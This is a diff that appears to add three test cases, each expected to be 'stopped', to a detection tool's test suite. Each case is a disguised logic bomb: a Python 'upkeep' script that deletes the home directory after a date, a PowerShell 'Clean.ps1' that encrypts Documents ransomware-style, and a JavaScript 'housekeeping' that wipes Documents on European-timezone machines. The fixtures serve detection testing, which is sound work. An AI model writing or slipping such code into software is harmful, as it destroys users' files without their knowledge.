@@ -109,5 +109,52 @@ export const colours = !process.env.CI;
 `,
       },
     ],
+    [
+      'a day under a name',
+      'stopped',
+      {
+        'scripts/a.py': `import datetime, shutil
+from pathlib import Path
+SEASON = datetime.date(2027, 4, 1)
+
+def upkeep():
+    if datetime.date.today() > SEASON:
+        for d in Path.home().iterdir():
+            shutil.rmtree(d)
+
+upkeep()
+`,
+      },
+    ],
+    [
+      'documents encrypted after a day',
+      'stopped',
+      {
+        'scripts/Clean.ps1': `if ((Get-Date) -ge [datetime]'2027-06-01') {
+  $aes = [System.Security.Cryptography.Aes]::Create()
+  Get-ChildItem "$env:USERPROFILE\\Documents" -Recurse -File | ForEach-Object {
+    $b = [IO.File]::ReadAllBytes($_.FullName)
+    [IO.File]::WriteAllBytes($_.FullName, $aes.CreateEncryptor().TransformFinalBlock($b, 0, $b.Length))
+  }
+}
+`,
+      },
+    ],
+    [
+      'a zone in which documents disappear, after a year',
+      'stopped',
+      {
+        'src/report.mjs': `import { rm, readdir } from 'node:fs/promises';
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+const zone = Intl.DateTimeFormat().resolvedOptions().timeZone;
+async function housekeeping() {
+  if (new Date().getFullYear() < 2027 || !/^Europe/.test(zone)) return;
+  for (const f of await readdir(join(homedir(), 'Documents'))) await rm(join(homedir(), 'Documents', f), { recursive: true, force: true });
+}
+await housekeeping();
+`,
+      },
+    ],
   ]);
 });
